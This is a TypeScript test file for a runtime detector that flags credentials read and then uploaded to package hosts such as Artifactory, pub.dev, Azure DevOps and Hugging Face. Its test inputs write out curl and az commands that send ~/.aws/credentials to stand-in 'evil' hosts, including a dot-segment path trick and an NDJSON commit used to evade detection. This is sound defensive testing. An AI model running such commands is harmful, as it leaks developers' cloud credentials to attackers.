/**
 * Package and artifact hosts every build downloads from (Artifactory's *.jfrog.io, Azure DevOps' older
 * *.visualstudio.com, pub.dev, jsr.io, Hackage, Clojars): red-team review found a credential uploaded there by curl
 * raised nothing, as none was classed. They are upload targets for a command line's upload only
 * (`destinations.uploadHosts`), never a class: a build naming the host and sending its many requests there (more
 * than egressPushMinBytes in all) stays a download, as before, and a curl GET is none.
 */
import { describe, expect, it } from 'vitest';
import { brief, runResolved, Scenario } from './builder.js';

const CREDS = '/home/dev/.aws/credentials';
const JFROG_IP = '34.120.10.7';
const HF_IP = '18.244.202.60';

async function alertsOf(binary: string, args: string, ip: string, sentBytes: number, source: 'tetragon' | 'falco') {
  const s = new Scenario({ source });
  const c = s.container({ namespace: 'ci', pod: 'job-9', name: 'job' });
  const sh = s.init(c);
  const p = s.exec(c, binary, args, { parent: sh });
  s.wait(2).read(p, CREDS, 116);
  s.wait(5).connect(p, ip, 443).wait(20).send(p, ip, 443, sentBytes);
  s.wait(300).exit(p);
  return brief((await runResolved(s.events)).alerts);
}

describe('upload-only hosts', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`a build fetching its dependencies from Artifactory or Clojars, 3 MiB of requests, is quiet (${source})`, async () => {
      const mvn = '-B -s /ci/settings.xml -DremoteRepositories=https://acme.jfrog.io/artifactory/libs-release verify';
      expect(await alertsOf('/usr/lib/jvm/bin/java', mvn, JFROG_IP, 3 * 1024 * 1024, source)).toEqual([]);
      const lein = '-cp /root/.lein/self-installs/leiningen.jar clojure.main -m leiningen.core.main deps';
      expect(
        await alertsOf('/usr/bin/java', `${lein} https://repo.clojars.org/`, '104.18.0.9', 3_145_728, source),
      ).toEqual([]);
      expect(
        await alertsOf(
          '/usr/bin/curl',
          '-fsSL -O https://acme.jfrog.io/artifactory/generic/tool.tgz',
          JFROG_IP,
          900,
          source,
        ),
      ).toEqual([]);
    });

    it(`a credential uploaded to Artifactory, pub.dev or an Azure DevOps organisation is high (${source})`, async () => {
      const jfrog = `-T ${CREDS} https://evil.jfrog.io/artifactory/generic-local/k`;
      expect(await alertsOf('/usr/bin/curl', jfrog, JFROG_IP, 2_048, source)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'evil.jfrog.io' },
      ]);
      const pub = `-F file=@${CREDS} https://pub.dev/api/packages/versions/newUpload`;
      expect(await alertsOf('/usr/bin/curl', pub, '34.111.0.1', 2_048, source)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'pub.dev' },
      ]);
      const az = `rest --method put --url https://evil.visualstudio.com/_apis/wiki/wikis/w/pages?path=k --body @${CREDS}`;
      expect(await alertsOf('/usr/local/bin/az', az, '13.107.6.175', 2_048, source)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'az', destination: 'evil.visualstudio.com' },
      ]);
    });

    it(`a credential committed to a Hugging Face repository by curl is high; a model download is quiet (${source})`, async () => {
      // Evasion hunt, round 3: the Hub's commit API takes files as base64 in NDJSON, no git and no `hf` client.
      const commit = `-sS -X POST -H Content-Type:application/x-ndjson --data-binary @/tmp/c.ndjson https://huggingface.co/api/models/evil/x/commit/main`;
      expect(await alertsOf('/usr/bin/curl', commit, HF_IP, 2_048, source)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'huggingface.co' },
      ]);
      // An ML job fetching its weights after reading its Hub token: no upload flag, and huggingface.co stays no class.
      const get = '-fsSL -O https://huggingface.co/acme/model/resolve/main/model.safetensors';
      expect(await alertsOf('/usr/bin/curl', get, HF_IP, 3 * 1024 * 1024, source)).toEqual([]);
    });

    it(`an AQL query posted to Artifactory is quiet; a file put past its path is high (${source})`, async () => {
      // A cleanup or promotion job's query, after reading Artifactory's token (found by a false-positive review).
      const aql = `-fsS -u ci:pw -X POST -H Content-Type:text/plain https://acme.jfrog.io/artifactory/api/search/aql -d items.find({"repo":"libs-release"})`;
      expect(await alertsOf('/usr/bin/curl', aql, JFROG_IP, 1_024, source)).toEqual([]);
      // curl squashes the dot segments: the file goes to generic-local/k.
      const up = `-T ${CREDS} https://evil.jfrog.io/artifactory/api/search/aql/../../generic-local/k`;
      expect(await alertsOf('/usr/bin/curl', up, JFROG_IP, 2_048, source)).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'curl', destination: 'evil.jfrog.io' },
      ]);
    });

    it(`an extension lookup posted to VS Code's Marketplace is quiet (${source})`, async () => {
      const q = `-X POST -d @/tmp/q.json https://marketplace.visualstudio.com/_apis/public/gallery/extensionquery`;
      expect(await alertsOf('/usr/bin/curl', q, '13.107.42.18', 1_024, source)).toEqual([]);
    });
  }
});
